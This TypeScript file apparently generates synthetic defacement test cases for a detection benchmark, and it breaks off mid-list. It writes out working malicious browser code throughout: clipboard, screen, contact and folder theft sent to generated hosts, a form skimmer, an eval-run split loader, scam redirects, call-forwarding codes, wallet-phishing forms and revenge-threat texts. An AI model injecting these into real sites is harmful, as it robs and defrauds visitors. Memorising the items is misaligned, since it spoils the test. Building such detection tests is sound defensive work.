/**
 * Fresh14 defacement classes: written after round 13 (the third group
 * written then, after fresh12 and fresh13), by someone who does not read the
 * engines, from public descriptions of real defacements, skimmers, loaders,
 * phishing kits and scams. New techniques: a script reading the visitor's
 * clipboard and sending it elsewhere, a "share your screen with our agent"
 * box streaming the screen to another host (getDisplayMedia), an "invite
 * your friends" button handing the visitor's address book to another host
 * (Contact Picker API), a "free online virus scan" that asks for a folder
 * and uploads its files (File System Access API), a "connect your hardware
 * wallet" prompt over WebHID or WebUSB, speculation rules that prerender or
 * prefetch pages of another host, a referrer policy loosened to leak full
 * addresses to a pixel on another host, a "dial this code" line that sets
 * up call forwarding to another number (USSD), "copy" buttons beside the
 * site's account details that copy another account, a loader split into
 * chunks across several inline scripts, a redirect that waits for the
 * visitor's first scroll or mouse move, and a tribute to a killed commander
 * with a vow of revenge; and scam and spam verticals not used before
 * (abortion pills in Indonesian, backlink and guest-post selling, a Chinese
 * "spider pool" link farm, Chinese proxy "airport" subscriptions, early
 * pension release, Miracle Mineral Solution cures, blue-badge verification
 * phishing, child-model castings, ghost-broker car insurance and flights,
 * firearms without licence, verified-account shops, game cheats, blessing
 * looms, "sow a seed" prosperity offerings, tax-debt relief and
 * life-experience degrees). Each differs from every class in
 * defacements.ts and fresh-defacements.ts through fresh13-defacements.ts
 * (not a re-wording of one) and varies its templates, languages, domains,
 * positions and sizes. The writer had no internet access: every source
 * below is recalled from memory, with its outlet and an approximate date,
 * and its comment says so. Scored in the `fresh14` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, head, siteOr, top } from "./classes.js"
import { type Page, makeBank, makeWallet } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, slotAt, splices } from "./edit.js"
import { type Lang, swapPhone } from "./locales.js"
import { type Rng, alnum, between, chance, digits, int, pick, sample } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, slug, team } from "./words.js"

const fresh14 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh14", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script${chance(rng, 0.2) ? ` type="text/javascript"` : ""}>${pick(rng, [() => code, () => `(function(){${code}})();`, () => `document.addEventListener("DOMContentLoaded",function(){${code}});`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "vip", "org", "cc", "store"])
/** Where a script goes: end of head, top, middle or bottom of the body. */
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), top(page), bottom(page), slotAt(page.spots, "middle")])
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const someSpot = (rng: Rng, page: Page) => pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)])
/** A host a scam or a collector runs on: a themed name on a cheap TLD, a random domain, or a look-alike of the site. */
const host = (rng: Rng, page: Page, words: ReadonlyArray<string>) =>
  pick(rng, [() => `${pick(rng, words)}-${pick(rng, ["online", "portal", "help", "center", "pro", "now", "app", "hub"])}.${tld(rng)}`, () => `${pick(rng, words)}${digits(rng, 2)}.${tld(rng)}`, () => randomDomain(rng), () => brandLookalike(rng, page.site.brand)])()
/** A collector endpoint for stolen data. */
const sink = (rng: Rng, page: Page) => `https://${pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["c", "api/collect", "u.php", "in", "r/" + alnum(rng, 5), "log", "v1/e"])}`
const intlMobile = (rng: Rng) =>
  pick(rng, [
    () => `+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+44 7${digits(rng, 3)} ${digits(rng, 6)}`, () => `+234 8${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+62 8${digits(rng, 2)} ${digits(rng, 4)} ${digits(rng, 4)}`, () => `+91 9${digits(rng, 4)} ${digits(rng, 5)}`, () => `+233 ${pick(rng, ["24", "54", "55"])} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+63 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+27 ${pick(rng, ["71", "72", "82"])} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+971 5${digits(rng, 1)} ${digits(rng, 3)} ${digits(rng, 4)}`
  ])()
const waLink = (n: string) => `https://wa.me/${n.replace(/\D/g, "")}`
const tgHandle = (rng: Rng, words: ReadonlyArray<string>) => `${pick(rng, words)}${pick(rng, ["_official", "_admin", "_support", digits(rng, 2), "bot", "_vip"])}`
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "hotmail.com", "gmx.com", "mail.com"])
/** A box around a notice, in one of a few looks. */
const box = (rng: Rng, cls: ReadonlyArray<string>, accent: string, inner: string) =>
  `<div class="${pick(rng, cls)}" style="${pick(rng, [`border:2px solid ${accent};background:#fff;padding:14px 16px;margin:12px 0`, `border-left:6px solid ${accent};background:#f7f7f7;padding:12px 16px;margin:14px 0`, `border:1px solid ${accent};border-radius:10px;background:#fffef8;padding:16px;margin:12px auto;max-width:700px`, `background:${accent};color:#fff;padding:14px 18px;margin:10px 0`])};font-family:${pick(rng, ["Arial,sans-serif", "Helvetica,Arial,sans-serif", "Verdana,sans-serif", "Georgia,serif", "system-ui,sans-serif"])}">${inner}</div>`
const button = (rng: Rng, accent: string) => `background:${accent};color:#fff;border:0;padding:${pick(rng, ["8px 16px", "10px 20px", "6px 14px"])};border-radius:${pick(rng, ["0", "4px", "20px"])};cursor:pointer;text-decoration:none;display:inline-block`

/** Code an attacker's loader ends up running: a script from another host, a redirect, or a small form skimmer. */
const payload = (rng: Rng, page: Page): string => {
  const h = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  switch (int(rng, 3)) {
    case 0: return `var s=document.createElement("script");s.src=${js(`https://${h}/${pick(rng, ["js/app.min.js", "static/" + alnum(rng, 8) + ".js", "lib.js?v=" + digits(rng, 4)])}`)};document.head.appendChild(s);`
    case 1: return `if(!/bot|crawl|spider|headless/i.test(navigator.userAgent)&&document.cookie.indexOf("_vr=")<0){document.cookie="_vr=1;max-age=86400;path=/";location.href=${js(`https://${h}/${pick(rng, ["go", "?s=" + alnum(rng, 6), "l/" + alnum(rng, 5)])}`)}}`
    default: return `document.addEventListener("submit",function(e){var d={u:location.href};[].forEach.call(e.target.elements,function(i){if(i.name)d[i.name]=i.value});navigator.sendBeacon(${js(`https://${h}/${pick(rng, ["collect", "b.php", "t"])}`)},btoa(unescape(encodeURIComponent(JSON.stringify(d)))))},true);`
  }
}

// Clipboard theft, recalled from memory of the W3C Async Clipboard API (navigator.clipboard.readText, shipped in Chrome about 2018) and its permission prompt, of Mysk's research (about 2020) on apps reading the clipboard on every launch, and of crypto-stealing scripts and extensions (reported by security vendors, about 2021–2024) that read copied seed phrases, passwords and addresses: a script that, on the visitor's first click, key press or return to the tab, reads the clipboard and sends its text to another host.
const clipboardRead = fresh14("script reading the visitor's clipboard on the first click or return to the tab and sending the text to another host", (page, rng) => {
  const to = sink(rng, page)
  const send = pick(rng, [
    `navigator.sendBeacon(${js(to)},JSON.stringify({c:t,p:location.pathname}))`,
    `fetch(${js(to)},{method:"POST",mode:"no-cors",body:btoa(unescape(encodeURIComponent(t)))})`,
    `(new Image).src=${js(to + "?d=")}+encodeURIComponent(t.slice(0,2000))`
  ])
  const read = `function r(){if(!navigator.clipboard||!navigator.clipboard.readText)return;navigator.clipboard.readText().then(function(t){if(t&&t!==window.__lc){window.__lc=t;${send}}},function(){})}`
  const trigger = pick(rng, [
    `document.addEventListener("click",function f(){document.removeEventListener("click",f);r()});`,
    `["click","keydown"].forEach(function(e){document.addEventListener(e,r,{once:true})});`,
    `document.addEventListener("visibilitychange",function(){if(!document.hidden)r()});window.addEventListener("focus",r);`,
    `document.addEventListener("paste",function(e){var t=(e.clipboardData||window.clipboardData).getData("text");if(t){${send}}});document.addEventListener("click",r,{once:true});`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, read + trigger)))
})

const shareWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Live support", "To finish your request, one of our agents needs to see your screen. Click below and choose “Entire screen”.", "Share my screen"],
  fr: ["Assistance en direct", "Pour finaliser votre demande, un conseiller doit voir votre écran. Cliquez ci-dessous et choisissez « Écran entier ».", "Partager mon écran"],
  de: ["Live-Support", "Um Ihre Anfrage abzuschließen, muss ein Mitarbeiter Ihren Bildschirm sehen. Klicken Sie unten und wählen Sie „Gesamter Bildschirm“.", "Bildschirm teilen"],
  es: ["Soporte en vivo", "Para completar su solicitud, un agente necesita ver su pantalla. Pulse abajo y elija «Toda la pantalla».", "Compartir mi pantalla"],
  nl: ["Live ondersteuning", "Om uw verzoek af te ronden moet een medewerker uw scherm zien. Klik hieronder en kies 'Volledig scherm'.", "Scherm delen"],
  pt: ["Suporte ao vivo", "Para concluir seu pedido, um atendente precisa ver sua tela. Clique abaixo e escolha “Tela inteira”.", "Compartilhar minha tela"],
  it: ["Assistenza dal vivo", "Per completare la richiesta un operatore deve vedere il tuo schermo. Fai clic qui sotto e scegli «Schermo intero».", "Condividi lo schermo"]
}

// Screen-sharing fraud, recalled from memory of banks' and police warnings (UK Finance, India's CERT-In and several banks, about 2020–2024) about fraudsters who ask victims to share their screen "so support can help" and then read one-time codes and balances, and of the Screen Capture API (getDisplayMedia) with which a page can stream a chosen screen: a support box whose button asks to share the whole screen and sends the recording in chunks to another host.
const screenShare = fresh14("'share your screen with our agent' box streaming the visitor's screen to another host (getDisplayMedia)", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, shareWords)
  const to = `https://${host(rng, page, ["support", "helpdesk", "assist", "remote", "live"])}/${pick(rng, ["upload", "stream", "s/" + alnum(rng, 6)])}`
  const id = `ss${alnum(rng, 4)}`
  const code = `document.getElementById("${id}").onclick=function(){navigator.mediaDevices.getDisplayMedia({video:${pick(rng, ["true", `{displaySurface:"monitor"}`])},audio:false}).then(function(s){var m=new MediaRecorder(s,{mimeType:"video/webm"});m.ondataavailable=function(e){fetch(${js(to)},{method:"POST",mode:"no-cors",body:e.data})};m.start(${pick(rng, [1000, 2000, 3000])})}).catch(function(){})};`
  const inner = `<h3>🖥️ ${esc(h)} · ${esc(brandName(page))}</h3><p>${esc(p)}</p><p><button type="button" id="${id}" style="${button(rng, "#0b6efd")}">${esc(cta)}</button> <span style="font-size:12px">${esc(pick(rng, ["Agent", "Conseiller", "Ticket", "ID"]))}: ${upperId(rng)}</span></p>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["support-session", "live-help", "notice"], "#0b6efd", inner) + `<script>${code}</script>`))
})
const upperId = (rng: Rng) => `${pick(rng, ["A", "K", "R", "S", "T"])}${digits(rng, 3)}-${alnum(rng, 4).toUpperCase()}`

const inviteWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Invite 5 friends, get a €50 voucher", "Pick five contacts to invite: your voucher unlocks as soon as they are added.", "Choose contacts"],
  fr: ["Invitez 5 amis, recevez un bon de 50 €", "Choisissez cinq contacts à inviter : votre bon est débloqué dès qu'ils sont ajoutés.", "Choisir des contacts"],
  de: ["5 Freunde einladen, 50-€-Gutschein erhalten", "Wählen Sie fünf Kontakte aus: Ihr Gutschein wird sofort freigeschaltet.", "Kontakte auswählen"],
  es: ["Invita a 5 amigos y recibe un vale de 50 €", "Elige cinco contactos para invitar: tu vale se desbloquea al añadirlos.", "Elegir contactos"],
  nl: ["Nodig 5 vrienden uit, krijg een bon van € 50", "Kies vijf contacten om uit te nodigen: je bon wordt meteen vrijgegeven.", "Contacten kiezen"],
  pt: ["Convide 5 amigos e ganhe um vale de R$ 200", "Escolha cinco contatos para convidar: seu vale é liberado assim que forem adicionados.", "Escolher contatos"],
  it: ["Invita 5 amici, ricevi un buono da 50 €", "Scegli cinque contatti da invitare: il buono si sblocca appena li aggiungi.", "Scegli contatti"]
}

// Address-book harvesting, recalled from memory of the W3C Contact Picker API (navigator.contacts.select, in Chrome for Android from about version 80, 2020) and its privacy notes, and of viral "invite friends to claim your gift" scams (reported by ESET and Kaspersky, about 2019–2023) that spread by getting victims to hand over contacts: a gift box whose button opens the phone's contact picker and posts the names, numbers and e-mail addresses chosen to another host.
const contactPicker = fresh14("'invite 5 friends to unlock your voucher' button handing the visitor's chosen contacts to another host (Contact Picker API)", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, inviteWords)
  const id = `cp${alnum(rng, 4)}`
  const to = sink(rng, page)
  const code = `document.getElementById("${id}").addEventListener("click",function(){if(!("contacts" in navigator))return;navigator.contacts.select(["name","tel","email"],{multiple:true}).then(function(c){fetch(${js(to)},{method:"POST",mode:"no-cors",headers:{"Content-Type":"text/plain"},body:JSON.stringify({s:location.host,c:c})})})});`
  const inner = `<h3>🎁 ${esc(h)}</h3><p>${esc(p)}</p><button type="button" id="${id}" style="${button(rng, "#e91e63")}">${esc(cta)}</button>`
  return splices(insert(someSpot(rng, page), box(rng, ["invite-friends", "gift-box", "promo"], "#e91e63", inner)), insert(scriptSpot(rng, page), `<script>window.addEventListener("load",function(){${code}});</script>`))
})

const scanWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Free online virus scan", "Our partner scanner checks your documents for malware in seconds. Choose your Documents or Downloads folder to start.", "Choose folder and scan"],
  fr: ["Analyse antivirus gratuite en ligne", "Notre scanner vérifie vos documents en quelques secondes. Choisissez votre dossier Documents ou Téléchargements.", "Choisir le dossier"],
  de: ["Kostenloser Online-Virenscan", "Unser Partner-Scanner prüft Ihre Dokumente in Sekunden. Wählen Sie Ihren Ordner Dokumente oder Downloads.", "Ordner wählen und scannen"],
  es: ["Análisis antivirus gratuito en línea", "Nuestro escáner revisa sus documentos en segundos. Elija su carpeta Documentos o Descargas para empezar.", "Elegir carpeta"],
  nl: ["Gratis online virusscan", "Onze scanner controleert uw documenten in enkele seconden. Kies uw map Documenten of Downloads.", "Map kiezen en scannen"],
  pt: ["Verificação de vírus grátis", "Nosso scanner verifica seus documentos em segundos. Escolha a pasta Documentos ou Downloads.", "Escolher pasta"],
  it: ["Scansione antivirus gratuita", "Il nostro scanner controlla i tuoi documenti in pochi secondi. Scegli la cartella Documenti o Download.", "Scegli cartella"]
}

// Folder exfiltration through the browser, recalled from memory of the File System Access API (showDirectoryPicker, Chrome 86, 2020) and of research (about 2022–2023, with uncertain authorship) showing "browser ransomware" and file theft once a user grants a folder, and of fake online virus scanners used as lures for years: a "free scan" box whose button asks for a folder, walks it and uploads each document to another host while a fake progress bar runs.
const folderScan = fresh14("'free online virus scan' asking for a folder and uploading its files to another host (File System Access API)", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, scanWords)
  const id = `fs${alnum(rng, 4)}`
  const to = `https://${host(rng, page, ["scan", "safecheck", "virusfree", "cleaner", "shield"])}/${pick(rng, ["up", "upload.php", "f"])}`
  const code = `document.getElementById("${id}").onclick=async function(){try{var d=await window.showDirectoryPicker(),n=0,b=document.getElementById("${id}b");for await(const [k,f] of d.entries()){if(f.kind!=="file")continue;var x=await f.getFile();if(x.size<${pick(rng, [5, 10, 20])}e6){var q=new FormData();q.append("f",x,k);fetch(${js(to)},{method:"POST",mode:"no-cors",body:q})}n++;if(b)b.style.width=Math.min(100,n*7)+"%"}}catch(e){}};`
  const inner = `<h3>🛡️ ${esc(h)}</h3><p>${esc(p)}</p><button type="button" id="${id}" style="${button(rng, "#2e7d32")}">${esc(cta)}</button><div style="background:#ddd;height:8px;margin-top:8px"><div id="${id}b" style="background:#2e7d32;height:8px;width:0"></div></div>`
  return splices(insert(someSpot(rng, page), box(rng, ["virus-scan", "security-check", "tools"], "#2e7d32", inner) + `<script>${code}</script>`))
})

// Hardware-wallet phishing, recalled from memory of the Ledger customer-data leak (2020) and the phishing that followed, of the Ledger Connect Kit compromise (December 2023), and of the WebHID and WebUSB APIs through which pages talk to Ledger and Trezor devices (Ledger vendor id 0x2c97, Trezor 0x1209/0x534c): a "firmware verification" box whose button asks the browser to connect the device, reads it, and then asks for the 24 recovery words, posting both to another host.
const hardwareWallet = fresh14("'verify your Ledger or Trezor' prompt connecting the hardware wallet over WebHID or WebUSB, then asking for the recovery words", (page, rng) => {
  const dev = pick(rng, ["Ledger", "Trezor"])
  const vid = dev === "Ledger" ? "0x2c97" : pick(rng, ["0x1209", "0x534c"])
  const api = pick(rng, ["hid", "usb"])
  const id = `hw${alnum(rng, 4)}`
  const to = sink(rng, page)
  const words = Array.from({ length: 24 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}" size="8" style="margin:2px">`).join("")
  const code = `document.getElementById("${id}").onclick=function(){navigator.${api}.requestDevice({filters:[{vendorId:${vid}}]}).then(function(d){d=d&&d.length!==undefined?d[0]:d;navigator.sendBeacon(${js(to)},JSON.stringify({p:d&&d.productName,v:d&&d.vendorId}));document.getElementById("${id}f").style.display="block"}).catch(function(){document.getElementById("${id}f").style.display="block"})};`
  const inner = `<h3>🔐 ${esc(dev)} ${esc(pick(rng, ["firmware verification required", "security check", "device re-synchronisation"]))}</h3><p>${esc(pick(rng, [`A vulnerability affects ${dev} devices bought before ${between(rng, 2022, 2025)}. Connect your device to verify it and keep your funds safe.`, `Your ${dev} must be re-synchronised with ${brandName(page)} payments. Connect it by USB and confirm your recovery phrase.`]))}</p><button type="button" id="${id}" style="${button(rng, "#111")}">${esc(pick(rng, ["Connect device", "Verify my " + dev]))}</button><form id="${id}f" action="${to}" method="post" style="display:none;margin-top:8px">${words}<br><button type="submit">${esc(pick(rng, ["Confirm", "Verify"]))}</button></form>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["wallet-check", "device-verify", "alert"], "#111", inner) + `<script>${code}</script>`))
})

// Prerendering and prefetching another host, recalled from memory of Chrome's Speculation Rules API (about 2022–2024, prerender and prefetch of listed URLs, a script of type speculationrules), of the older link rel="prerender" hint, and of affiliate cookie-stuffing and impression fraud that loads pages silently in visitors' browsers (the eBay affiliate cases, 2008–2010): rules or hints telling the browser to fetch or render pages of another host in the background.
const speculationPrerender = fresh14("speculation rules or prerender hints making the browser load pages of another host in the background", (page, rng) => {
  const h = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${pick(rng, ["deal", "offer", "go", "click"])}${digits(rng, 3)}.${tld(rng)}`])
  const urls = Array.from({ length: between(rng, 1, 4) }, () => `https://${h}/${pick(rng, ["aff", "r", "go", "c", "lp"])}/${alnum(rng, 6)}${chance(rng, 0.5) ? `?sub=${slug(page.site.brand)}&id=${digits(rng, 5)}` : ""}`)
  const out: Array<Splice> = []
  if (chance(rng, 0.65)) {
    const action = pick(rng, ["prerender", "prefetch", "both"])
    const rules: Record<string, unknown> = {}
    if (action !== "prefetch") rules.prerender = [{ source: "list", urls, eagerness: "immediate" }]
    if (action !== "prerender") rules.prefetch = [{ source: "list", urls, ...(chance(rng, 0.5) ? { requires: ["anonymous-client-ip-when-cross-origin"] } : {}) }]
    out.push(insert(pick(rng, [head(page), bottom(page), top(page)]), `<script type="speculationrules">${JSON.stringify(rules, null, chance(rng, 0.5) ? 1 : undefined)}</script>`))
  } else {
    out.push(insert(head(page), urls.map((u) => `<link rel="${pick(rng, ["prerender", "prefetch", "prerender"])}" href="${esc(u)}">`).join("\n")))
  }
  return { splices: out }
})

// Referrer leaks, recalled from memory of the W3C Referrer Policy specification's warning that "unsafe-url" leaks the full address (path and query) to every origin, and of bug-bounty write-ups (about 2015–2021) where password-reset and session tokens in URLs leaked through the Referer header to third-party images and scripts: a referrer policy set to unsafe-url (meta tag or attribute) with a tracking pixel or script from another host that receives every page's full address.
const referrerLeak = fresh14("referrer policy loosened to unsafe-url and a pixel from another host added, leaking each page's full address and tokens", (page, rng) => {
  const h = pick(rng, [libLookalike(rng), randomDomain(rng), `${pick(rng, ["px", "stat", "hit", "cnt"])}${digits(rng, 2)}.${tld(rng)}`])
  const src = `https://${h}/${pick(rng, ["p.gif", "1x1.png", "px?id=" + digits(rng, 6), "t.gif?s=" + alnum(rng, 6)])}`
  const out: Array<Splice> = []
  const meta = chance(rng, 0.7)
  if (meta) out.push(insert(head(page), `<meta name="referrer" content="${pick(rng, ["unsafe-url", "unsafe-url", "always"])}">`))
  const attr = meta ? "" : ` referrerpolicy="unsafe-url"`
  out.push(insert(pick(rng, [bottom(page), top(page), anySlot(rng, page.spots)]), pick(rng, [
    `<img src="${esc(src)}" width="1" height="1" alt=""${attr} style="position:absolute;left:-9999px">`,
    `<img src="${esc(src)}" width="1" height="1" border="0"${attr}>`,
    `<script src="https://${h}/${pick(rng, ["c.js", "counter.js", "s.js"])}"${attr} async></script>`
  ])))
  return { splices: out }
})

const ussdWords: Record<Lang, (code: string) => string> = {
  en: (c) => `Missed your delivery or our call? To have our courier and customer service reach you directly, dial ${c} from the phone you gave us and press call.`,
  fr: (c) => `Vous avez manqué votre livraison ou notre appel ? Pour que notre livreur et le service client vous joignent directement, composez ${c} depuis le téléphone indiqué.`,
  de: (c) => `Zustellung oder Anruf verpasst? Damit unser Kurier und Kundenservice Sie direkt erreicht, wählen Sie ${c} auf dem angegebenen Telefon.`,
  es: (c) => `¿Perdió su entrega o nuestra llamada? Para que el mensajero y atención al cliente le localicen, marque ${c} desde el teléfono que nos dio.`,
  nl: (c) => `Levering of ons telefoontje gemist? Bel ${c} vanaf het opgegeven nummer, dan kan onze koerier en klantenservice u direct bereiken.`,
  pt: (c) => `Perdeu a entrega ou nossa ligação? Para o entregador e o atendimento falarem com você, disque ${c} no telefone cadastrado.`,
  it: (c) => `Consegna o chiamata persa? Perché corriere e assistenza ti raggiungano direttamente, componi ${c} dal telefono indicato.`
}

// Call-forwarding codes, recalled from memory of Indian news reports and telecom warnings (about 2023–2024) on fraudsters posing as couriers or customer care who ask victims to dial *401* or **21* followed by a number, which forwards all calls (and so the banks' and WhatsApp's voice one-time codes) to the fraudster, and of the standard GSM supplementary-service codes (**21*, **61*, **67*): a line or box asking visitors to dial such a code with the attacker's number, written as a tel: link.
const ussdForward = fresh14("'dial this code so our courier can reach you' line whose code forwards the visitor's calls to another number (USSD **21*, *401*)", (page, rng) => {
  const n = intlMobile(rng).replace(/\s/g, "")
  const prefix = pick(rng, ["**21*", "*401*", "**61*", "**67*", "*21*"])
  const code = `${prefix}${chance(rng, 0.5) ? n : n.replace(/^\+\d{1,3}/, "0")}#`
  const link = `<a href="tel:${code.replace(/#/g, "%23")}" style="font-weight:bold">${esc(code)}</a>`
  const text = esc(siteOr(rng, page, ussdWords)("\u0000")).replace("\u0000", link)
  const html = pick(rng, [
    `<p class="${pick(rng, ["delivery-note", "notice", "info"])}" style="background:#fff3cd;border:1px solid #e0b000;padding:8px 12px">📞 ${text}</p>`,
    box(rng, ["courier-info", "customer-service", "alert"], "#e0b000", `<p>📦 ${text}</p>`)
  ])
  return splices(insert(noticeSpot(rng, page), html))
})

/** Where the raw text of a visible run holds `needle`: the hit's end, or after the link around it. */
const afterValue = (page: Page, needle: string): number | null => {
  for (const t of page.spots.texts) {
    const i = page.html.slice(t.start, t.end).indexOf(needle)
    if (i === -1) continue
    for (let e = page.spots.elements[t.parent]; e !== undefined; e = page.spots.elements[e.parent]) {
      if (!e.shown) break
      if (e.name === "a" && e.closeTag !== null) return e.closeTag.end
    }
    return t.start + i + needle.length
  }
  return null
}

// Copy buttons that copy something else, recalled from memory of clipboard-hijacking reports (about 2018–2024) and of copy-to-clipboard libraries (clipboard.js, data-clipboard-text, about 2015 on) whose button copies an attribute value rather than the text beside it: "copy" buttons placed next to the site's wallet, IBAN, phone number or e-mail address, which copy the attacker's instead, while the page still shows the site's own value.
const copyButtonSwap = fresh14("'copy' buttons beside the site's wallet, IBAN, phone or e-mail that copy another account (data-clipboard-text)", (page, rng) => {
  const ids = page.ids
  const cands: Array<readonly [string, string]> = []
  if (ids.wallet !== null) cands.push([ids.wallet.address, makeWallet(rng, ids.wallet.coin).address])
  if (ids.bank !== null) {
    const other = makeBank(rng, page.site.locale)
    if (other !== null && other.value !== ids.bank.value) cands.push([ids.bank.value, other.value])
  }
  cands.push([ids.phone.national, swapPhone(page.site.locale, ids.phone, rng).national])
  cands.push([ids.email, `${ids.email.split("@")[0]}@${pick(rng, [brandLookalike(rng, page.site.brand), freeMail(rng)])}`])
  const chosen = sample(rng, cands.slice(0, Math.max(1, cands.length - 2)).concat(chance(rng, 0.5) ? cands.slice(-2) : []), between(rng, 1, 3))
  const label = pick(rng, ["Copy", "📋", "Copier", "Kopieren", "Copiar", "⧉ Copy"])
  const out: Array<Splice> = []
  const taken = new Set<number>()
  for (const [mine, theirs] of chosen) {
    const at = afterValue(page, mine)
    if (at === null || taken.has(at)) continue
    taken.add(at)
    out.push(insert(at, pick(rng, [
      ` <button type="button" class="copy-btn" data-clipboard-text="${esc(theirs)}" onclick="navigator.clipboard.writeText(this.getAttribute('data-clipboard-text'))">${label}</button>`,
      ` <button type="button" class="btn-copy" onclick="navigator.clipboard.writeText(${esc(js(theirs))});this.textContent='✓'">${label}</button>`,
      ` <a href="#" role="button" class="copy" data-clipboard-text="${esc(theirs)}" style="font-size:12px">${label}</a>`
    ])))
  }
  if (out.some((s) => s.insert.includes(`<a href="#"`))) out.push(insert(bottom(page), `<script src="https://cdnjs.cloudflare.com/ajax/libs/clipboard.js/2.0.11/clipboard.min.js"></script><script>new ClipboardJS(".copy");</script>`))
  if (out.length === 0) out.push(insert(noticeSpot(rng, page), `<p>${esc(pick(rng, ["Donate", "Pay to", "Bank"]))}: <button type="button" data-clipboard-text="${esc(makeWallet(rng).address)}" onclick="navigator.clipboard.writeText(this.getAttribute('data-clipboard-text'))">${label}</button></p>`))
  return { splices: out }
})

// Skimmers split into parts, recalled from memory, with uncertain details, of Sansec's and Malwarebytes' notes (about 2020–2022) on Magecart code divided into several fragments kept in different places of a shop (several inline scripts, database fields, files) and joined at run time so no single piece looks like a skimmer: several short inline scripts at different places of the page, each adding a chunk of base64 to a global, the last one decoding and running it.
const splitLoader = fresh14("loader split into chunks across several inline scripts at different places of the page, joined and run by the last", (page, rng) => {
  const code = Buffer.from(payload(rng, page), "utf8").toString("base64")
  const k = pick(rng, ["_wpx", "__cfg", "_ga_q", "dataStore", "_shopCfg", "__p" + alnum(rng, 3)])
  const n = between(rng, 3, 5)
  const size = Math.ceil(code.length / n)
  const parts = Array.from({ length: n }, (_, i) => code.slice(i * size, (i + 1) * size))
  const spots = [head(page), top(page), ...page.spots.slots.filter((_, i, a) => i % Math.max(1, Math.floor(a.length / 4)) === 0), bottom(page)]
  const ordered = [...new Set(spots)].sort((a, b) => a - b)
  const places = ordered.length >= n ? sample(rng, ordered.slice(0, -1), n - 1).sort((a, b) => a - b).concat([ordered[ordered.length - 1]!]) : Array.from({ length: n }, () => bottom(page))
  const run = pick(rng, ["(0,eval)(atob(w.join(\"\")))", "new Function(atob(w.join(\"\")))()", "setTimeout(atob(w.join(\"\")),10)"])
  return {
    splices: parts.map((p, i) => {
      const add = `(window.${k}=window.${k}||[])[${i}]=${JSON.stringify(p)};`
      return insert(places[i]!, `<script>${add}${i === n - 1 ? `(function(){var w=window.${k};if(w&&w.length===${n})${run}})();` : ""}</script>`)
    })
  }
})

// Redirects held back until a human moves, recalled from memory of Sucuri's and GoDaddy's reports on the Balada Injector campaigns (about 2023–2024), whose injected scripts waited for a mousemove, scroll or touch before redirecting (to evade crawlers and scanners), and of traffic-direction scripts that redirect only once per visitor: a script that waits for the first scroll, mouse move or touch, sets a cookie and sends the visitor to a scam page.
const interactionRedirect = fresh14("redirect that waits for the visitor's first scroll, mouse move or touch, once per visitor, to a scam page", (page, rng) => {
  const h = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${pick(rng, ["win", "prize", "news", "deal", "check"])}-${alnum(rng, 4)}.${tld(rng)}`])
  const url = `https://${h}/${pick(rng, ["?p=" + alnum(rng, 8), "go/" + digits(rng, 4), "lp/" + alnum(rng, 5), "r.php?k=" + alnum(rng, 6)])}`
  const evs = JSON.stringify(sample(rng, ["mousemove", "scroll", "touchstart", "wheel", "keydown"], between(rng, 2, 4)))
  const c = `_${alnum(rng, 3)}`
  const go = pick(rng, [`location.href=${js(url)}`, `location.replace(${js(url)})`, `window.top.location=${js(url)}`])
  const code = `if(document.cookie.indexOf("${c}=")<0){var f=function(){${evs}.forEach(function(e){window.removeEventListener(e,f)});document.cookie="${c}=1;path=/;max-age=${pick(rng, [86400, 604800, 2592000])}";setTimeout(function(){${go}},${between(rng, 0, 1500)})};${evs}.forEach(function(e){window.addEventListener(e,f,{passive:true})})}`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

const tributes: ReadonlyArray<readonly [string, (n: string) => string, string]> = [
  ["In memory of the martyr", (n) => `Commander ${n} was murdered by cowards. His blood will not be forgotten. Severe revenge awaits those who did this; this is only a small part of what is coming.`, "Revenge is coming"],
  ["یاد شهید گرامی", (n) => `سردار ${n} به دست ترسوها به شهادت رسید. انتقام سخت در راه است. این تنها بخش کوچکی از توان ماست.`, "انتقام سخت"],
  ["تخليدًا لذكرى الشهيد", (n) => `القائد ${n} اغتيل غدرًا. دماؤه لن تذهب هدرًا والانتقام قادم لا محالة.`, "الانتقام قادم"],
